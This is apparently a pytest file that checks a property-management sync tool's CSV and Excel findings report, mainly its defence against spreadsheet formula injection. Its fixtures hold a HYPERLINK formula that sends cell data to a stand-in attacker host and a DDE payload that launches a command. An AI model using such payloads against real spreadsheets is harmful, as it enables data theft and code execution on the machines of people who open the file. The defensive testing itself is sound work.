"""The data-quality report (`--findings FILE`) as the property manager opens it: what Excel shows
and what it must never do with a value from the ERP (run it as a formula)."""
from __future__ import annotations

import csv
import zipfile

import pytest
from openpyxl import load_workbook

from engine.findings import CATALOGUE, Finding
from engine.findings_report import COLUMNS, write_findings, write_findings_csv, write_findings_xlsx

HOSTILE = {                          # ERP key -> what the report's cell must hold
    '=HYPERLINK("http://evil.example/?"&A1,"Details")': '\'=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "+49 30 1234567": "'+49 30 1234567",
    "-5": "'-5",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "0012": "0012",                   # harmless: kept as it is
    "a=b": "a=b",
    "-": "-",                         # the key of a finding about a whole entity (deletes_held): text as it is
}


def reported_garbage(manifest) -> dict:
    """The first phone field of the demo holding text that is no number (not a placeholder such
    as 'keine', which is an empty field)."""
    return next(c for c in manifest.cases["phone_garbage"] if c["field"] == "telefon" and c["raw"] not in ("keine", "-", "0"))


def hostile_findings() -> list[Finding]:
    return [Finding("invalid_record", "users", key, "country 'DEU' is not an ISO 3166-1 alpha-2 code", "country")
            for key in HOSTILE] + [
        Finding("rejected", "users", "1000019", "=cmd|' /C calc'!A0", None)]


def read_csv(path, delimiter: str = ",") -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh, delimiter=delimiter))


def test_a_csv_cell_that_starts_like_a_formula_gets_an_apostrophe_and_the_rest_stays_as_it_was(tmp_path):
    """Excel runs a CSV cell that starts with = + - @ (or a tab or carriage return before them) as
    a formula: a hostile ERP value could open a link with the sheet's data in it. Such a cell is
    written with a leading apostrophe, which Excel shows; every other cell is unchanged."""
    report = tmp_path / "findings.csv"
    write_findings_csv(hostile_findings(), report)
    rows = read_csv(report)
    assert [r["erp_key"] for r in rows] == [*HOSTILE.values(), "1000019"]
    assert rows[-1]["message"] == "'=cmd|' /C calc'!A0"
    assert {r["message"] for r in rows[:-1]} == {"country 'DEU' is not an ISO 3166-1 alpha-2 code"}
    assert {r["what_to_fix"] for r in rows[:-1]} == {"correct the named field in the ERP"}


def test_a_lone_surrogate_in_a_finding_is_written_as_its_escape(tmp_path):
    """An API source's JSON '\\ud800' reaches a finding's key or message (the portal refuses the
    record): the report shows it as \\ud800 instead of failing after the run."""
    report = tmp_path / "findings.csv"
    write_findings_csv([Finding("rejected", "users", "K\ud800-1", "400 invalid: last_name is not UTF-8")], report)
    [r] = read_csv(report)
    assert r["erp_key"] == "K\\ud800-1"


def test_the_workbook_of_a_plan_shows_every_finding_as_text_under_a_bold_header_that_stays_in_view(ws, manifest):
    """`plan --findings report.xlsx`, opened as Excel opens it: the findings sheet has the CSV's
    columns as a bold, frozen header with an autofilter over all rows, one row per finding, the
    ERP keys as text (a contract's key 5000019/1000021 no date or fraction, a unit's key no
    number), empty fields empty, columns wide enough to read; the sheet `per code` counts them,
    errors first."""
    path = ws.tenant_file()
    code, summary, err = ws.cli_json("plan", str(path), "--no-out", "--date", "2026-06-01", "--findings", "report.xlsx")
    assert code == 0, err
    book = load_workbook(ws.root / "report.xlsx")
    assert book.sheetnames == ["findings", "per code"]
    sheet = book["findings"]
    header, *rows = list(sheet.iter_rows())
    assert tuple(c.value for c in header) == COLUMNS and all(c.font.b for c in header)
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:G{len(rows) + 1}"
    assert len(rows) == sum(summary["findings"].values())
    values = [tuple(c.value for c in r) for r in rows]

    garbage = reported_garbage(manifest)                 # a phone number that is none
    (p,), raw = garbage["adressnr"], garbage["raw"]
    fix = CATALOGUE["phone_invalid"][2]
    assert [v for v in values if v[:4] == ("warning", "phone_invalid", "users", str(p)) and v[4] == "phone"] == [
        ("warning", "phone_invalid", "users", str(p), "phone", f"{raw!r} is not a phone number; sent empty", fix)]
    vacancy = manifest.cases["vacancy_contract"][0]              # a contract: its key has a slash
    key = f"{vacancy['vertragnr'][0]}/{vacancy['adressnr'][0]}"
    assert [v[:4] for v in values if v[3] == key and v[1] == "vacancy_contract"] == [
        ("info", "vacancy_contract", "occupancies", key)]
    keys = [r[3] for r in rows]
    assert all(c.data_type == "s" and isinstance(c.value, str) for c in keys)
    assert {c.value for c in keys} >= {str(u) for u in manifest.cases["phantom_by_flag"][0]["einheitid"]}
    assert any(v[4] is None for v in values) and "" not in {v[4] for v in values}

    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFG"}
    assert widths["D"] >= len(key) and widths["F"] > widths["A"] and max(widths.values()) <= 82

    per_code = [tuple(c.value for c in r) for r in book["per code"].iter_rows()]
    assert per_code[0] == ("severity", "code", "findings", "what_to_fix")
    assert {code: n for _, code, n, _ in per_code[1:]} == summary["findings"]
    severities = [severity for severity, *_ in per_code[1:]]
    assert severities == sorted(severities, key=["error", "warning", "info"].index)


def test_a_workbook_keeps_erp_keys_as_they_are_and_never_stores_a_formula(tmp_path):
    """An ERP key 0012 stays 0012, 1/12 is no date, 1e5 no number; a value starting like a formula
    is stored as text, shown without an apostrophe, and marked to stay text when edited; the
    workbook holds no formula at all. A control character XML cannot hold shows as its escape."""
    keys = ["0012", "1/12", "5000456/1000021", "1e5", "2026-06-01", *HOSTILE]
    findings = [Finding("invalid_record", "users", k, "country 'DEU' is not an ISO 3166-1 alpha-2 code", "country")
                for k in keys] + [Finding("rejected", "users", "1000019", "=cmd|' /C calc'!A0"),
                                  Finding("rejected", "users", "K\x0b1\ud800", "400 invalid")]
    report = tmp_path / "report.xlsx"
    write_findings(findings, report)
    sheet = load_workbook(report)["findings"]
    _, *rows = list(sheet.iter_rows())
    assert [r[3].value for r in rows] == [*keys, "1000019", "K\\x0b1\\ud800"]
    assert all(c.data_type == "s" for r in rows for c in r if c.value is not None)
    assert rows[len(keys)][5].value == "=cmd|' /C calc'!A0"
    for r in rows:
        for c in r:
            assert c.quotePrefix == (isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t")))
    with zipfile.ZipFile(report) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in x or b"<f " in x for x in sheets)


@pytest.mark.parametrize("name, workbook", [("report.xlsx", True), ("REPORT.XLSX", True), ("report.csv", False),
                                            ("report.txt", False), ("report", False)])
def test_the_file_name_chooses_the_format_a_workbook_only_for_xlsx(tmp_path, name, workbook):
    """.xlsx in any case is a workbook; any other name is the CSV, as before there was a workbook."""
    report = tmp_path / name
    write_findings([Finding("phone_invalid", "users", "1000019", "'keine' is not a phone number", "phone")], report)
    assert zipfile.is_zipfile(report) == workbook
    if not workbook:
        assert [r["erp_key"] for r in read_csv(report)] == ["1000019"]


def test_more_findings_than_a_sheet_holds_go_on_to_the_next_sheet(tmp_path):
    """An Excel sheet holds 1,048,576 rows; here a sheet of three: a header and two findings."""
    findings = [Finding("user_without_occupancy", "users", str(1000000 + i), "no current contract") for i in range(5)]
    report = tmp_path / "report.xlsx"
    write_findings_xlsx(findings, report, sheet_rows=3)
    book = load_workbook(report)
    assert book.sheetnames == ["findings", "findings 2", "findings 3", "per code"]
    keys = [[r[3] for r in book[name].iter_rows(values_only=True)] for name in book.sheetnames[:3]]
    assert keys == [["erp_key", "1000000", "1000001"], ["erp_key", "1000002", "1000003"], ["erp_key", "1000004"]]
    assert list(book["per code"].iter_rows(values_only=True))[1][1:3] == ("user_without_occupancy", 5)


def test_findings_delimiter_semicolon_writes_the_csv_a_german_excel_opens_in_columns(ws, manifest):
    """`--findings-delimiter ';'`: the same CSV with ';' between the cells; a message holding a
    ';' is quoted and reads back as one cell. Without the option the CSV keeps its ','."""
    path = ws.tenant_file()
    code, summary, err = ws.cli_json("plan", str(path), "--no-out", "--date", "2026-06-01",
                                     "--findings", "report.csv", "--findings-delimiter", ";")
    assert code == 0, err
    report = ws.root / "report.csv"
    assert report.read_bytes().startswith(b"\xef\xbb\xbfseverity;code;entity;erp_key;field;message;what_to_fix\r\n")
    rows = read_csv(report, delimiter=";")
    assert len(rows) == sum(summary["findings"].values()) and set(rows[0]) == set(COLUMNS)
    garbage = reported_garbage(manifest)
    (p,), raw = garbage["adressnr"], garbage["raw"]
    [row] = [r for r in rows if (r["code"], r["erp_key"], r["field"]) == ("phone_invalid", str(p), "phone")]
    assert row["message"] == f"{raw!r} is not a phone number; sent empty"
    assert row["what_to_fix"] == CATALOGUE["phone_invalid"][2]

    code, _, err = ws.cli_json("plan", str(path), "--no-out", "--date", "2026-06-01", "--findings", "default.csv")
    assert code == 0, err
    assert (ws.root / "default.csv").read_text("utf-8-sig").startswith("severity,code,entity,erp_key,")


def test_a_delimiter_for_a_workbook_is_refused_before_the_run(ws):
    """A workbook has no delimiter: the option with --findings FILE.xlsx is a usage error (exit 2,
    one line), before anything is run or written."""
    path = ws.tenant_file()
    code, summary, err = ws.cli_json("run", str(path), "--date", "2026-06-01",
                                     "--findings", "report.xlsx", "--findings-delimiter", ";")
    line = ("--findings-delimiter ;: --findings report.xlsx is an Excel workbook, which has no delimiter; "
            "leave the option out, or name a .csv file")
    assert (code, err) == (2, f"idwell-sync run: error: {line}\n")
    assert (summary["status"], summary["error"]["message"]) == ("failed", line)
    assert not (ws.root / "report.xlsx").exists() and not ws.portal_path.exists()


@pytest.mark.parametrize("command", ["run", "plan"])
def test_a_delimiter_without_a_report_is_refused_before_the_run(ws, command):
    """`--findings-delimiter ';'` alone wrote no report and said nothing, the user waiting for a CSV
    for a German Excel: a usage error (exit 2, one line) naming --findings, before anything is run."""
    code, summary, err = ws.cli_json(command, str(ws.tenant_file()), "--date", "2026-06-01",
                                     "--findings-delimiter", ";")
    line = "--findings-delimiter ;: no report is written without --findings; name the CSV file, --findings FILE.csv"
    assert (code, err) == (2, f"idwell-sync {command}: error: {line}\n")
    assert (summary["status"], summary["error"]["message"]) == ("failed", line)
    assert not ws.portal_path.exists()


@pytest.mark.parametrize("name", ["report.xls", "Bericht.ODS"])
def test_a_spreadsheet_format_the_report_is_not_written_in_is_refused_before_the_run(ws, name):
    """A CSV named .xls opens in Excel only after a warning that the file is not what its name
    says: such a name is a usage error (exit 2, one line), before anything is run or written."""
    code, summary, err = ws.cli_json("run", str(ws.tenant_file()), "--date", "2026-06-01", "--findings", name)
    suffix = name.rsplit(".", 1)[1].lower()
    assert code == 2 and err.startswith(f"idwell-sync run: error: --findings {name}: the report is written as an "
                                        f"Excel workbook (.xlsx) or as CSV, not as .{suffix}")
    assert err.rstrip().endswith("name the file .xlsx or .csv") and err.count("\n") == 1
    assert summary["status"] == "failed" and not (ws.root / name).exists() and not ws.portal_path.exists()


def test_a_cell_longer_than_excel_holds_is_cut_with_a_mark_in_the_workbook(tmp_path):
    """An Excel cell holds 32,767 characters; openpyxl cut a longer one without a word. The
    workbook's cell ends saying it was cut and how long it was; the CSV keeps it whole."""
    long_value = "0171 " * 9_000                    # 45,000 characters of a phone field gone wrong
    findings = [Finding("phone_invalid", "users", "1000019", f"{long_value!r} is not a phone number", "phone")]
    write_findings(findings, tmp_path / "r.xlsx")
    write_findings(findings, tmp_path / "r.csv")
    cell = load_workbook(tmp_path / "r.xlsx")["findings"]["F2"].value
    whole = len(findings[0].message)
    assert len(cell) == 32_767 and cell.endswith(f" [... cut: {whole:,} characters, the CSV report has them all]")
    assert cell.startswith("'0171 0171 ")
    assert read_csv(tmp_path / "r.csv")[0]["message"] == findings[0].message


def test_a_refused_report_name_makes_no_folder(ws):
    """--findings newdir/x.xls is refused before the run (exit 2) and leaves nothing behind, not
    even the folder the file would have gone into."""
    code, _, err = ws.cli_json("plan", str(ws.tenant_file()), "--date", "2026-06-01", "--findings", "neu/x.xls")
    assert code == 2 and "not as .xls" in err
    assert not (ws.root / "neu").exists()


INTERRUPTED_WORKBOOK = """
import sys
from pathlib import Path
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from engine.findings import Finding
from engine.findings_report import write_findings_xlsx
append, calls = WriteOnlyWorksheet.append, [0]
def interrupted(self, row):                  # a SIGTERM or Ctrl-C lands between two rows
    calls[0] += 1
    if calls[0] == 500:
        raise KeyboardInterrupt
    return append(self, row)
WriteOnlyWorksheet.append = interrupted
findings = [Finding("phone_invalid", "users", str(1000000 + i), "'keine' is not a phone number", "phone")
            for i in range(2000)]
try:
    write_findings_xlsx(findings, Path(sys.argv[1]))
except KeyboardInterrupt:
    print("interrupted")
"""


def test_a_workbook_stopped_halfway_leaves_no_traceback_on_standard_error(tmp_path):
    """A stop while the workbook is laid out: its half-written sheets' row writers were closed at
    exit after their temporary file, and Python printed 'Exception ignored ... I/O operation on
    closed file' with a traceback below the message that says the report was not written."""
    import subprocess
    import sys
    done = subprocess.run([sys.executable, "-c", INTERRUPTED_WORKBOOK, str(tmp_path / "r.xlsx")],
                          capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout, done.stderr) == (0, "interrupted\n", "")
    assert not (tmp_path / "r.xlsx").exists()
